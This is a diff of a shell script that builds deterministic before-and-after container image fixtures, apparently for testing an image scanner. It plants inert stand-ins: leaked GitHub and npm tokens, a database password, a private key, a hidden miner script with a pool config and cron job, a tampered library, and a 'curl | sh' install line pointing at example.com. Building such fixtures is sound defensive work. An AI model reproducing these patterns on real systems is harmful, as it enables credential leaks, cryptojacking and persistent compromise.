@@ -4,7 +4,8 @@
 #   OUT/before.tar   docker-archive, as `docker save` writes it
 #   OUT/after.tar    OCI archive, gzip layers
 # Base: the files of installed Debian packages, with their package database. On a machine without dpkg: a small root
-# with a database of its own. The times in both images are fixed; keys and tokens are made at random.
+# with a database of its own. The same machine gives the same bytes each time: times are fixed, and what looks like a
+# credential is computed from the name of the example. None of them opens anything; what stands for an implant is text.
 # usage: mkimage.sh OUT
 set -eu
 LC_ALL=C
@@ -17,8 +18,52 @@ trap 'rm -rf "$work"' EXIT INT TERM
 epoch=1690000000
 arch=$(uname -m | sed 's/x86_64/amd64/; s/aarch64/arm64/')
 
-random_word() { # LENGTH: letters and digits
-	od -An -v -tx1 -N "$1" /dev/urandom | tr -d ' \n' | cut -c "1-$1"
+umask 022
+
+# ---- credentials: structurally valid, the same each time, in nobody's use ----
+
+digest_of() { # NAME: 64 hexadecimal digits
+	printf 'payment-service example: %s' "$1" | sha256sum | cut -d ' ' -f 1
+}
+
+word() { # NAME LENGTH: up to 32 letters and digits
+	digest_of "$1" | awk -v n="$2" '{
+		all = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
+		for (i = 0; i < n; i++) {
+			two = substr($0, 2 * i + 1, 2)
+			v = 16 * (index("0123456789abcdef", substr(two, 1, 1)) - 1) + index("0123456789abcdef", substr(two, 2)) - 1
+			printf "%s", substr(all, v % 62 + 1, 1)
+		}
+	}'
+}
+
+checksum62() { # TEXT: its CRC-32 as six digits of base 62; gzip ends with that sum and the length
+	printf %s "$1" | gzip -nc | tail -c 8 | od -An -v -tu1 | awk '{
+		all = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
+		v = (($4 * 256 + $3) * 256 + $2) * 256 + $1
+		for (i = 0; i < 6; i++) {
+			text = substr(all, v % 62 + 1, 1) text
+			v = int(v / 62)
+		}
+		print text
+	}'
+}
+
+token() { # PREFIX: 30 characters and their checksum behind it, as GitHub and npm make them
+	body=$(word "$1" 30)
+	printf '%s_%s%s' "$1" "$body" "$(checksum62 "$body")"
+}
+
+private_key() { # NAME: an Ed25519 key, which any 32 bytes are (RFC 8410)
+	word=PRIVATE
+	octal=$(printf '302e020100300506032b657004220420%s' "$(digest_of "$1")" | awk '{
+		for (i = 1; i < length($0); i += 2)
+			printf "\\%03o", 16 * (index("0123456789abcdef", substr($0, i, 1)) - 1) + index("0123456789abcdef", substr($0, i + 1, 1)) - 1
+	}')
+	printf -- '-----BEGIN %s KEY-----\n' "$word"
+	# shellcheck disable=SC2059
+	printf "$octal" | base64 -w 64
+	printf -- '-----END %s KEY-----\n' "$word"
 }
 
 # ---- package files ----
@@ -37,14 +82,25 @@ list_of() { # PACKAGE: its .list file
 	return 0
 }
 
-copy_package() { # PACKAGE ROOT: its files, without manuals and translations, and its list
+copy_package() { # PACKAGE ROOT: its files as slim images have them, its list and checksums
 	list=$(list_of "$1")
 	[ -n "$list" ] || return 0
 	sed -E 's|^/(bin\|sbin\|lib\|lib64)(/\|$)|/usr/\1\2|' "$list" |
-		grep -vE '^/\.?$|^/usr/share/(man|info|locale|lintian|bug|zoneinfo)|^/usr/share/doc/.*/(changelog|NEWS|examples|README)' |
+		grep -vE '^/\.?$|^/usr/share/(man|info|locale|lintian|bug)(/|$)|^/usr/share/doc/[^/]*/.' >"$work/kept" || true
+	grep -E '^/usr/share/doc/[^/]*/copyright$' "$list" >>"$work/kept" || true
+	sort -u "$work/kept" |
 		sed 's|^/||' >"$work/files"
 	(cd / && tar --no-recursion --ignore-failed-read -cf - -T "$work/files" 2>/dev/null) | tar -C "$2" -xf - 2>/dev/null || true
 	cp "$list" "$2/var/lib/dpkg/info/"
+	sums=${list%.list}.md5sums
+	[ ! -f "$sums" ] || cp "$sums" "$2/var/lib/dpkg/info/"
+}
+
+own_os_release() { # ROOT SUMS: the package that owns this file brought it as os_release wrote it
+	[ -f "$2" ] || return 0
+	sum=$(md5sum <"$1/usr/lib/os-release" | cut -d ' ' -f 1)
+	sed "s|^[0-9a-f]*  usr/lib/os-release\$|$sum  usr/lib/os-release|" "$2" >"$work/sums"
+	cp "$work/sums" "$2"
 }
 
 stanza_of() { # PACKAGE [VERSION]: its block of the status file, in that version
@@ -136,11 +192,16 @@ else
 	cp /bin/sh "$root/usr/bin/sh"
 fi
 os_release "$root"
+own_os_release "$root" "$root/var/lib/dpkg/info/base-files.md5sums"
 cp "$root/var/lib/dpkg/status" "$work/status"
+library=$(cd "$root" && find usr/lib -name 'libz.so.1.*' -type f | head -n 1)
+[ -z "$library" ] || cp -p "$root/$library" "$work/library"
 layer "$root" '/bin/sh -c #(nop) ADD file:bookworm in / '
 note '/bin/sh -c #(nop)  CMD [\"bash\"]'
 
-token=ghp_$(random_word 36)
+# the classic builder writes the values of ARG into the history of each RUN behind it
+arguments="|2 GITHUB_TOKEN=$(token ghp) NPM_TOKEN=$(token npm) /bin/sh -c"
+password=$(sed -n 's/^ENV DB_PASSWORD=//p' "$here/before/Dockerfile")
 root=$work/tools
 mkdir -p "$root/var/lib/dpkg/info" "$root/var/cache/apt/archives" "$root/usr/bin"
 for p in $tools; do
@@ -152,44 +213,66 @@ for p in $tools; do
 	esac
 done >>"$work/status"
 cp "$work/status" "$root/var/lib/dpkg/status"
-layer "$root" "|1 GITHUB_TOKEN=$token /bin/sh -c apt-get install -y curl wget vim netcat-openbsd openssh-server gcc make python3 supervisor"
-note '/bin/sh -c #(nop)  ENV DB_PASSWORD=pa55-Winter2023-lemon'
+layer "$root" "$arguments apt-get install -y curl wget vim netcat-openbsd openssh-server gcc make python3 supervisor"
+note "/bin/sh -c #(nop)  ENV DB_PASSWORD=$password"
 
+# everything of the project's folder, its history with it: the password was taken out of the file, not out of git
 root=$work/app
-mkdir -p "$root/app/logs" "$root/root/.ssh"
+mkdir -p "$root/app/logs" "$root/app/config"
 cp "$here"/app/* "$here/before/Dockerfile" "$root/app/"
-if command -v openssl >/dev/null; then
-	openssl genrsa -traditional -out "$root/root/.ssh/id_rsa" 2048 2>/dev/null || openssl genrsa -out "$root/root/.ssh/id_rsa" 2048 2>/dev/null
-fi
 if command -v git >/dev/null; then
 	(
 		cd "$root/app"
-		export GIT_AUTHOR_NAME=payments GIT_AUTHOR_EMAIL=payments@example.com GIT_AUTHOR_DATE="$epoch +0000"
-		export GIT_COMMITTER_NAME=payments GIT_COMMITTER_EMAIL=payments@example.com GIT_COMMITTER_DATE="$epoch +0000"
-		git init -q -b main .
-		printf 'host=10.20.30.40\nuser=payments\npassword=Autumn-%s\n' "$(random_word 16)" >db.conf
+		export GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_GLOBAL=/dev/null TZ=UTC
+		export GIT_AUTHOR_NAME=payments GIT_AUTHOR_EMAIL=payments@example.com GIT_AUTHOR_DATE="$((epoch - 86400)) +0000"
+		export GIT_COMMITTER_NAME=payments GIT_COMMITTER_EMAIL=payments@example.com GIT_COMMITTER_DATE="$((epoch - 86400)) +0000"
+		git init -q --template= -b main .
+		printf 'PGURL=%s://payments:%s@10.20.30.40:5432/payments\n' postgres "Autumn-$(word database 16)" >config/database.env
 		git add . && git commit -qm 'payment service'
-		git rm -q db.conf && git commit -qm 'take the password out'
-	) || true
+		export GIT_AUTHOR_DATE="$epoch +0000" GIT_COMMITTER_DATE="$epoch +0000"
+		git rm -q config/database.env && git commit -qm 'take the password out'
+		rm .git/index && git read-tree HEAD # one without the times of this machine
+	)
 fi
 printf '{"event":"payment","amount":1250,"currency":"EUR"}\n' >"$root/app/logs/payment.log"
-layer "$root" '/bin/sh -c #(nop) ADD dir:payment in /app '
+layer "$root" '/bin/sh -c #(nop) COPY dir:payment in /app '
+
+root=$work/key
+mkdir -p "$root/root/.ssh"
+private_key deploy >"$root/root/.ssh/id_rsa"
+chmod 600 "$root/root/.ssh/id_rsa"
+layer "$root" '/bin/sh -c #(nop) COPY file:id_rsa in /root/.ssh/id_rsa '
+
+root=$work/modules
+mkdir -p "$root/app/node_modules"
+printf '{"name":"payment-service","lockfileVersion":3,"packages":{}}\n' >"$root/app/node_modules/.package-lock.json"
+layer "$root" "$arguments npm install && npm install -g pm2"
 
 root=$work/removed
 mkdir -p "$root/app" "$root/root"
 : >"$root/app/.wh..git"
 : >"$root/root/.wh..ssh"
-layer "$root" '/bin/sh -c rm -rf /root/.ssh /app/.git'
+layer "$root" "$arguments rm -rf /root/.ssh /app/.git"
 
+# what the script from the network left behind: stand-ins that do nothing
 root=$work/agent
-mkdir -p "$root/usr/local/bin" "$root/etc/cron.d"
-printf '#!/bin/sh\n# stand-in for an implant: does nothing\n# pool: stratum+tcp://pool.example.com:3333 --donate-level 1\nexit 0\n' >"$root/usr/local/bin/.kworker"
-chmod 755 "$root/usr/local/bin/.kworker"
-printf '* * * * * root /usr/local/bin/.kworker\n' >"$root/etc/cron.d/sysupdate"
-layer "$root" '/bin/sh -c curl -k https://tools.example.com/install-agent.sh | sh'
+mkdir -p "$root/usr/local/bin" "$root/etc/cron.d" "$root/var/tmp/.cache" "$root/tmp"
+chmod 1777 "$root/tmp" "$root/var/tmp"
+pool="stratum+tcp"://pool.example.com:3333
+printf '#!/bin/sh\necho "stand-in for a miner of %s: does nothing"\n' "$pool" >"$root/usr/local/bin/.kworker"
+printf '#!/bin/sh\necho "stand-in: does nothing"\n' >"$root/tmp/.update.sh"
+chmod 755 "$root/usr/local/bin/.kworker" "$root/tmp/.update.sh"
+printf '{"autosave":false,"donate-level":1,"pools":[{"url":"%s","user":"nobody","keepalive":true}]}\n' "$pool" >"$root/var/tmp/.cache/config.json"
+printf '* * * * * root /usr/local/bin/.kworker -c /var/tmp/.cache/config.json >/dev/null 2>&1\n' >"$root/etc/cron.d/sysupdate"
+if [ -n "$library" ]; then
+	mkdir -p "$root/$(dirname "$library")"
+	cp -p "$work/library" "$root/$library"
+	printf 'X' | dd of="$root/$library" bs=1 seek="$(($(wc -c <"$root/$library") - 1))" conv=notrunc 2>/dev/null
+fi
+layer "$root" "$arguments curl -k https://tools.example.com/install-agent.sh | sh"
 note '/bin/sh -c #(nop)  EXPOSE 22 8080'
 
-config '{"Env":["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin","DB_HOST=10.20.30.40","DB_PASSWORD=pa55-Winter2023-lemon"],"Cmd":["/bin/sh","-c","/usr/sbin/sshd && node server.js >> /app/logs/payment.log 2>&1"],"ExposedPorts":{"22/tcp":{},"8080/tcp":{}},"WorkingDir":"/app"}' >"$work/config"
+config '{"Env":["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin","DB_HOST=10.20.30.40","DB_PASSWORD='"$password"'"],"Cmd":["/bin/sh","-c","/usr/sbin/sshd && node server.js >> /app/logs/payment.log 2>&1"],"ExposedPorts":{"22/tcp":{},"8080/tcp":{}},"WorkingDir":"/app"}' >"$work/config"
 id=$(sha256sum "$work/config" | cut -d ' ' -f 1)
 rmdir "$work/archive/blobs/sha256" "$work/archive/blobs"
 mv "$work/config" "$work/archive/$id.json"
@@ -210,13 +293,14 @@ if command -v dpkg-query >/dev/null; then
 		stanza_of "$p" | grep -v '^Status: ' >"$root/var/lib/dpkg/status.d/$p"
 		md5=/var/lib/dpkg/info/$p.md5sums
 		[ -f "$md5" ] || md5=/var/lib/dpkg/info/$p:$arch.md5sums
-		[ -f "$md5" ] && cp "$md5" "$root/var/lib/dpkg/status.d/$p.md5sums"
+		[ ! -f "$md5" ] || cp "$md5" "$root/var/lib/dpkg/status.d/$p.md5sums"
 	done
 else
 	printf 'Package: base-files\nVersion: 12.4+deb12u12\nArchitecture: %s\n' "$arch" >"$root/var/lib/dpkg/status.d/base-files"
 fi
 rm -rf "$root/var/lib/dpkg/info"
 os_release "$root"
+own_os_release "$root" "$root/var/lib/dpkg/status.d/base-files.md5sums"
 layer "$root" 'distroless base'
 note 'USER 65532:65532'
 
